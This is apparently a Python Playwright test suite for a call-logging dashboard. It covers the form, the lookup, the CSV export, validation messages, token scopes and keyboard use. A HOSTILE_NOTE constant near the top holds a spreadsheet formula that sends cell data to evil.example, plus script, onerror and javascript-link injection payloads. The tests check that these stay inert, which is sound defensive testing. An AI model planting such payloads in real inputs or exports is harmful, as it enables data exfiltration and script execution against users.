"""Logging a call in Chromium: it reaches the overview, the lookup and the CSV; bad input stays."""

from __future__ import annotations

import csv
import re
from collections.abc import Callable

import pytest
from playwright.sync_api import Locator, Page, expect

from lib.display.filters import today_in
from lib.sandbox import Sandbox
from tests.browser.conftest import Apps, sandbox_env, snapshot
from tests.browser.harness import RunningApp, SecretScan
from tests.browser.ui import TZ, choose, cli_summary, expect_cards_equal, expect_no_traceback
from tests.conftest import NOW

pytestmark = pytest.mark.browser

# A note a hostile or careless rep could type: a spreadsheet formula, HTML, script, Markdown.
HOSTILE_NOTE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"open") <script>window.pwned=1</script>'
    '<img src=x onerror="window.pwned=2"> <b>bold</b> [link](javascript:window.pwned=3) '
    "**not bold** marker-7f3a"
)


def field_message(page: Page, field: Locator) -> Locator:
    """The alert drawn right after the widget that holds `field` (the form puts messages there)."""
    container = field.locator("xpath=ancestor::div[@data-testid='stElementContainer'][1]")
    return container.locator("xpath=following-sibling::div[1]").get_by_test_id("stAlert")


def open_form(page: Page, app: RunningApp) -> None:
    page.goto(f"{app.url}/log")
    expect(page.get_by_role("heading", name="Log a call")).to_be_visible()
    expect(page.get_by_role("button", name="Log call")).to_be_enabled()


def test_a_logged_call_appears_on_the_overview_in_the_lookup_and_in_the_csv(
    dashboard: RunningApp, app_sandbox: Sandbox, page: Page, secret_scan: SecretScan
) -> None:
    today = today_in(TZ, NOW)
    before = cli_summary(app_sandbox, today, today)
    page.goto(f"{dashboard.url}/?range=Today")
    expect_cards_equal(page, before)

    open_form(page, dashboard)
    page.get_by_text("Outbound", exact=True).click()
    page.get_by_role("textbox", name="From number").fill("(201) 555-0123")
    page.get_by_role("textbox", name="To number").fill("+44 20 7946 0958")
    choose(page, "Disposition", "Interested (Answered)")
    page.get_by_role("textbox", name="Note").fill(HOSTILE_NOTE)
    page.get_by_role("button", name="Log call").click()
    logged = page.get_by_text(re.compile(r"Logged call \d+\."))
    expect(logged).to_be_visible()
    call_id = int(re.search(r"Logged call (\d+)", logged.inner_text()).group(1))
    snapshot(page, "log-call-logged", secret_scan)

    # The lookup, through the link the form offers.
    page.get_by_role("link", name=f"Open call {call_id} in the call lookup").click()
    expect(page.get_by_role("heading", name=f"Call {call_id}")).to_be_visible()
    expect(page).to_have_url(re.compile(rf"[?&]id={call_id}\b"))
    expect(page.get_by_text(HOSTILE_NOTE, exact=True)).to_be_visible()
    expect(page.get_by_text("+12015550123", exact=True)).to_be_visible()
    expect(page.get_by_text("Interested", exact=True)).to_be_visible()
    # The note's markup stayed text: nothing of it became an element or ran.
    main = page.get_by_test_id("stMain")
    expect(main.locator("img[src=x]")).to_have_count(0)
    expect(main.locator("b", has_text="bold")).to_have_count(0)
    expect(main.locator("a[href^=javascript]")).to_have_count(0)
    assert page.evaluate("window.pwned") is None
    snapshot(page, "lookup-logged-call", secret_scan)

    # The overview counts it at once.
    after = cli_summary(app_sandbox, today, today)
    assert after["calls"] == before["calls"] + 1
    page.goto(f"{dashboard.url}/?range=Today")
    expect_cards_equal(page, after)
    assert page.evaluate("window.pwned") is None

    # And the CSV of today's calls has it, with the formula neutralised.
    with page.expect_download() as download:
        page.get_by_role("button", name="Download these calls (CSV)").click()
    path = download.value.path()
    secret_scan.check("CSV download", path.read_bytes(), "files")
    rows = list(csv.DictReader(path.open(newline="", encoding="utf-8")))
    mine = [row for row in rows if row.get("id") == str(call_id)]
    assert len(mine) == 1, f"call {call_id} not in the CSV's {len(rows)} rows"
    note = mine[0]["note"]
    assert "marker-7f3a" in note
    assert note[0] not in "=+-@\t\r", "a spreadsheet would run this cell as a formula"
    assert note.lstrip("'") == HOSTILE_NOTE
    for row in rows:
        for value in row.values():
            # A plain number such as an E.164 "+16505551335" is read as a number, never run.
            assert (not value or value[0] not in "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
                    or re.fullmatch(r"[+-]\d+", value)), f"formula-like cell {value!r}"
    assert any(row["from"].startswith("+") for row in rows), "E.164 numbers are left intact"


def test_invalid_input_is_explained_beside_each_field_and_nothing_typed_is_lost(
    dashboard: RunningApp, app_sandbox: Sandbox, page: Page, secret_scan: SecretScan
) -> None:
    calls_before = len(app_sandbox.all_calls())
    open_form(page, dashboard)
    typed = {"From number": "call me maybe", "To number": "+44 20 7946 0958",
             "Prospect id": "x1"}
    for label, value in typed.items():
        page.get_by_role("textbox", name=label).fill(value)
    note = "Spoke to <b>Ann</b>; wants a demo"
    page.get_by_role("textbox", name="Note").fill(note)
    # No direction chosen: required.
    page.get_by_role("button", name="Log call").click()

    expect(page.get_by_text("The call was not logged: see the messages above.")).to_be_visible()
    from_box = page.get_by_role("textbox", name="From number")
    expect(field_message(page, from_box)).to_contain_text("This is not a phone number")
    prospect = page.get_by_role("textbox", name="Prospect id")
    expect(field_message(page, prospect)).to_contain_text("digits only")
    direction = page.get_by_role("radiogroup", name="Direction (required)")
    expect(field_message(page, direction)).to_contain_text("Choose whether you called them")
    # A field typed correctly gets no message.
    expect(field_message(page, page.get_by_role("textbox", name="To number"))).to_have_count(0)
    # Everything typed is still there to be corrected.
    for label, value in typed.items():
        expect(page.get_by_role("textbox", name=label)).to_have_value(value)
    expect(page.get_by_role("textbox", name="Note")).to_have_value(note)
    expect_no_traceback(page)
    snapshot(page, "log-call-invalid-input", secret_scan)
    assert len(app_sandbox.all_calls()) == calls_before


@pytest.fixture(scope="module")
def read_only_app(apps: Apps, app_sandbox: Sandbox, secret_scan: SecretScan) -> RunningApp:
    """The dashboard with a token that may read everything but not create calls."""
    token = app_sandbox.issue_token(
        ["read_calls", "read_users", "read_call_dispositions", "read_call_purposes"], ttl=7200)
    secret_scan.add_secret("token without create_calls", token)
    return apps.start("no-create-scope", env=sandbox_env(app_sandbox, token))


def test_a_token_without_create_calls_says_so_on_the_form(
    read_only_app: RunningApp, app_sandbox: Sandbox, new_page: Callable[[], Page],
    secret_scan: SecretScan,
) -> None:
    page = new_page()
    calls_before = len(app_sandbox.all_calls())
    open_form(page, read_only_app)
    scope_sentence = "not allowed to log calls (it lacks the scope 'create_calls')"
    # Said before anyone types, since /1.0/info lists the token's scopes ...
    expect(page.get_by_text(re.compile(re.escape(scope_sentence))).first).to_be_visible()
    # ... and again if someone tries anyway.
    page.get_by_text("Inbound", exact=True).click()
    page.get_by_role("textbox", name="From number").fill("+44 20 7946 0958")
    page.get_by_role("button", name="Log call").click()
    failure = page.get_by_test_id("stAlert").filter(has_text="The call was not logged")
    expect(failure).to_contain_text(scope_sentence)
    expect_no_traceback(page)
    snapshot(page, "log-call-missing-scope", secret_scan)
    assert len(app_sandbox.all_calls()) == calls_before


def test_log_another_keeps_the_line_and_the_purpose_and_logs_by_keyboard(
    dashboard: RunningApp, app_sandbox: Sandbox, page: Page
) -> None:
    open_form(page, dashboard)
    page.get_by_text("Outbound", exact=True).click()
    page.get_by_role("textbox", name="From number").fill("(201) 555-0123")
    page.get_by_role("textbox", name="To number").fill("+1 212 555 0100")
    choose(page, "Purpose", "Discovery")
    page.get_by_role("button", name="Log call").click()
    expect(page.get_by_text(re.compile(r"Logged call \d+\."))).to_be_visible()
    page.get_by_role("button", name="Log another call").click()
    expect(page.get_by_text(re.compile(r"Logged call \d+\."))).to_have_count(0)
    # The line called from and the purpose are kept; the rest is empty for the next call.
    expect(page.get_by_role("textbox", name="From number")).to_have_value("(201) 555-0123")
    expect(page.get_by_role("combobox", name="Purpose")).to_have_value("Discovery")
    expect(page.get_by_role("textbox", name="To number")).to_have_value("")
    # The next call by keyboard alone: a direction, the number, then the button.
    page.get_by_role("radio", name="Outbound").focus()
    page.keyboard.press("Space")
    to_box = page.get_by_role("textbox", name="To number")
    to_box.focus()
    page.keyboard.type("+1 212 555 0101")
    page.get_by_role("button", name="Log call").focus()
    page.keyboard.press("Enter")
    expect(page.get_by_text(re.compile(r"Logged call \d+\."))).to_be_visible()
    last = app_sandbox.all_calls()[-1]["attributes"]
    assert last["connection"]["to"] == "+12125550101"
    assert last["connection"]["from"] == "+12015550123"
    assert last["purpose"]["id"] == 3  # Discovery, kept from the call before
    expect_no_traceback(page)


def test_the_prospect_is_found_by_name_and_chosen_by_keyboard_and_nothing_typed_is_lost(
    dashboard: RunningApp, app_sandbox: Sandbox, page: Page
) -> None:
    by_name: dict[tuple[str, str], list] = {}
    for prospect in app_sandbox.prospects():
        by_name.setdefault((prospect.first_name, prospect.last_name), []).append(prospect)
    namesakes = next(group for group in by_name.values() if 2 <= len(group) <= 20)
    target = namesakes[-1]

    open_form(page, dashboard)
    # Typed into the form before searching: the search's rerun must not lose it.
    page.get_by_role("textbox", name="From number").fill("(201) 555-0123")
    page.get_by_role("textbox", name="Note").fill("Asked for the deck")
    search = page.get_by_role("textbox", name="Find the prospect")
    search.focus()
    page.keyboard.type(f"{target.first_name} {target.last_name}")
    page.keyboard.press("Enter")
    found = page.get_by_role("combobox", name=f"Prospect ({len(namesakes)} found)")
    expect(found).to_be_visible()
    # Namesakes are told apart by the line each has; the rep narrows the list by typing.
    found.focus()
    page.keyboard.type(target.email)
    expect(page.get_by_role("option")).to_have_count(1)
    page.keyboard.press("Enter")
    prospect_box = page.get_by_role("textbox", name="Prospect id")
    expect(prospect_box).to_have_value(str(target.id))
    expect(page.get_by_text(f"{target.first_name} {target.last_name} is filled in below as "
                            f"prospect {target.id}")).to_be_visible()
    expect(page.get_by_role("textbox", name="Note")).to_have_value("Asked for the deck")
    expect(page.get_by_role("textbox", name="From number")).to_have_value("(201) 555-0123")

    page.get_by_role("radio", name="Outbound").focus()
    page.keyboard.press("Space")
    page.get_by_role("button", name="Log call").focus()
    page.keyboard.press("Enter")
    expect(page.get_by_text(re.compile(r"Logged call \d+\."))).to_be_visible()
    last = app_sandbox.all_calls()[-1]["attributes"]
    assert last["prospect"]["id"] == target.id
    assert last["connection"] == {"outbound": True, "from": "+12015550123", "to": target.phone}
    assert last["metadata"]["note"] == "Asked for the deck"

    # The next call is to someone else: the search starts empty, the line is kept.
    page.get_by_role("button", name="Log another call").click()
    expect(page.get_by_role("textbox", name="Find the prospect")).to_have_value("")
    expect(page.get_by_role("combobox", name=re.compile(r"^Prospect \("))).to_have_count(0)
    expect(page.get_by_role("textbox", name="Prospect id")).to_have_value("")
    expect(page.get_by_role("textbox", name="From number")).to_have_value("(201) 555-0123")
    expect_no_traceback(page)
